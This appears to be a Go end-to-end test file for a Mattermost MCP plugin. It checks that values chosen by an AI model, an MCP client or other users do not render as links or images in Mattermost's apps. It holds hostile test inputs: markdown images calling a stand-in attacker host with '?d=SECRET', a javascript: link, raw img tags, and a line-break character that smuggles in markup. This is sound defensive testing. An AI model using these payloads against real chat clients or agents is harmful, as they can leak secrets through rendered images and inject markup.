package e2e

import (
	"context"
	"strings"
	"testing"

	"github.com/mark3labs/mcp-go/client"
	"github.com/mark3labs/mcp-go/client/transport"
	"github.com/mark3labs/mcp-go/mcp"
	"github.com/mattermost/mattermost/server/public/model"

	"github.com/mcp-server/mattermost-plugin-mcp/e2e/harness"
	"github.com/mcp-server/mattermost-plugin-mcp/e2e/renderers"
	"github.com/mcp-server/mattermost-plugin-mcp/server/config"
)

// The plugin's posts as Mattermost's own apps render them: the web app
// (its lexer's rule, then a GFM parser) and the mobile app
// (@mattermost/commonmark), through e2e/node/render.mjs. Values the model,
// an MCP client or another person chose, accepted by Mattermost and by the
// plugin, must not turn into a link or an image there.

// Hostile values Mattermost and the plugin accept: a channel name that is
// an image, autolinks in a purpose and a header, a status that is both.
const (
	hostileName    = "![x](https://" + renderers.Attacker + "/p?d=SECRET)"
	hostilePurpose = "see www." + renderers.Attacker + "/x and http:/" + renderers.Attacker + "/x a@" + renderers.Attacker
	hostileHeader  = "[x](javascript:alert(1)) <img src=https://" + renderers.Attacker + "/p> [x]: https://" + renderers.Attacker
	hostileStatus  = "![x](https://" + renderers.Attacker + "/s) www." + renderers.Attacker + "/s"
	// hostileOther is a channel's name someone else wrote: the mobile app
	// links http:/host (one slash) too.
	hostileOther = "see http:/" + renderers.Attacker + "/x"
	// hostileClient is a client's own name, with the sign the web app's
	// lexer turns into a line break: the plugin takes it as the client
	// sends it.
	hostileClient = "a\u2424> ![x](https://" + renderers.Attacker + "/p?d=SECRET)"
)

// rendersOnly renders u's post postID, read back through REST, in both
// apps and checks that it shows exactly the links in want and nothing
// else that is markup: no other link, no image, no raw HTML, no mention.
func rendersOnly(t *testing.T, u harness.User, postID, what string, want ...string) string {
	t.Helper()
	p, _, err := mm.Client(u).GetPost(context.Background(), postID, "")
	if err != nil {
		t.Fatal(err)
	}
	rendersMessageOnly(t, p.Message, what, want...)
	return p.Message
}

func rendersMessageOnly(t *testing.T, msg, what string, want ...string) {
	t.Helper()
	got, err := renderers.Render(context.Background(), []string{msg})
	if err != nil {
		t.Fatal(err)
	}
	for app, side := range map[string]renderers.Side{"web": got[0].Web, "mobile": got[0].Mobile} {
		if foreign, missing := side.Foreign(want...), side.Missing(want...); len(foreign) > 0 || len(missing) > 0 {
			t.Errorf("%s, as the %s app renders it: renders %q, lacks %q:\n%s\n--- HTML:\n%s", what, app, foreign, missing, msg, side.HTML)
		}
	}
}

func TestTheBotsMessageAboutAWriteWithHostileNamesRendersOnlyItsConfirmationPageInMattermostsApps(t *testing.T) {
	allowWrites(t, config.ConfirmMattermost)
	notifyByDM(t, true)
	erin, err := mm.CreateUser(uniq(t, "erin"))
	if err != nil {
		t.Fatal(err)
	}
	// Names others wrote: a channel someone else named, a post in it.
	other := createChannel(t, mm.Admin, uniq(t, "open"), hostileOther, model.ChannelTypeOpen)
	own := createChannel(t, erin, uniq(t, "mine"), "www."+renderers.Attacker+"/ch", model.ChannelTypeOpen)
	c := connect(t, mm.URL, erin.Token)
	cases := []struct {
		tool string
		args map[string]any
	}{
		{"create_channel", map[string]any{"display_name": hostileName, "name": uniq(t, "made"), "purpose": hostilePurpose, "header": hostileHeader}},
		{"set_status", map[string]any{"status": "away", "custom_text": hostileStatus}},
		{"join_channel", map[string]any{"channel": other.Id}},
		{"create_post", map[string]any{"channel": own.Id, "message": hostileHeader + "\n" + hostilePurpose,
			"files": []map[string]any{{"name": "[x](www." + renderers.Attacker + ") a@" + renderers.Attacker + ".txt", "content": hostileName}}}},
	}
	seen := map[string]bool{}
	for _, tc := range cases {
		done := postAsyncWith(c, tc.tool, tc.args)
		id := waitNewPending(t, erin, seen)
		dm := botDMAbout(t, erin, id, anyMessage)
		msg := rendersOnly(t, erin, dm.Id, tc.tool+" waiting", pageOf(id))
		if tc.tool == "create_channel" && !strings.Contains(msg, "Name (written by the AI): "+hostileName) {
			t.Errorf("the message does not show the name the model chose:\n%s", msg)
		}
		answerOnPage(t, erin, id, "decline", "")
		if res, _ := waitTool(t, done); !res.IsError {
			t.Errorf("%s: a declined write answered %s", tc.tool, text(res))
		}
		botPostBecomes(t, erin, dm.Id, contains("Declined"))
		rendersOnly(t, erin, dm.Id, tc.tool+" declined")
	}
}

func TestANameOrStatusHoldingTheWebAppsLineBreakSignIsRefusedSayingWhatToRemove(t *testing.T) {
	allowWrites(t, config.ConfirmMattermost)
	erin, err := mm.CreateUser(uniq(t, "erin"))
	if err != nil {
		t.Fatal(err)
	}
	c := connect(t, mm.URL, erin.Token)
	taken := uniq(t, "sign")
	for _, tc := range []struct {
		tool string
		args map[string]any
		says []string
	}{
		{"create_channel", map[string]any{"display_name": "a\u2424> ![x](https://" + renderers.Attacker + "/p?d=SECRET)", "name": taken},
			[]string{"display_name holds the ␤ character (u+2424)", "remove the ␤ character (u+2424) from display_name; use a plain name"}},
		{"create_channel", map[string]any{"display_name": "Fine", "name": taken, "purpose": "a\u2424b"}, []string{"purpose holds the ␤ character (u+2424)"}},
		{"create_channel", map[string]any{"display_name": "Fine", "name": taken, "header": "a\u21B5b"}, []string{"header holds the ↵ character (u+21b5)"}},
		{"set_status", map[string]any{"custom_text": "out\u2424back"}, []string{"custom_text holds the ␤ character (u+2424)"}},
	} {
		res := call(t, c, tc.tool, tc.args)
		got := strings.ToLower(text(res))
		if !res.IsError {
			t.Errorf("%s %q was not refused: %s", tc.tool, tc.args, got)
			continue
		}
		for _, s := range tc.says {
			if !strings.Contains(got, s) {
				t.Errorf("%s %q: the refusal does not say %q: %s", tc.tool, tc.args, s, got)
			}
		}
	}
	if n := confirmationCount(t, erin); n != 0 {
		t.Fatalf("%d refused writes were asked", n)
	}
}

func TestTheMcpClientsAnswerRendersNoLinkOrImageOfAClientsOwnName(t *testing.T) {
	erin, err := mm.CreateUser(uniq(t, "erin"))
	if err != nil {
		t.Fatal(err)
	}
	named, err := client.NewStreamableHttpClient(mcpURL(mm.URL),
		transport.WithHTTPHeaders(map[string]string{"Authorization": "Bearer " + erin.Token}))
	if err != nil {
		t.Fatal(err)
	}
	ctx := context.Background()
	if err := named.Start(ctx); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = named.Close() })
	req := mcp.InitializeRequest{}
	req.Params.ProtocolVersion = mcp.LATEST_PROTOCOL_VERSION
	req.Params.ClientInfo = mcp.Implementation{Name: hostileClient, Version: "[x](https://" + renderers.Attacker + ")"}
	if _, err := named.Initialize(ctx, req); err != nil {
		t.Fatal(err)
	}
	call(t, named, "get_me", nil)
	res, _, err := mm.Client(erin).ExecuteCommand(ctx, townSquare(t).Id, "/mcp clients")
	if err != nil {
		t.Fatalf("/mcp clients: %v", err)
	}
	if !strings.Contains(res.Text, "> ![x](https://"+renderers.Attacker+"/p?d=SECRET)") {
		t.Fatalf("/mcp clients does not list the client:\n%s", res.Text)
	}
	rendersMessageOnly(t, res.Text, "/mcp clients")
}
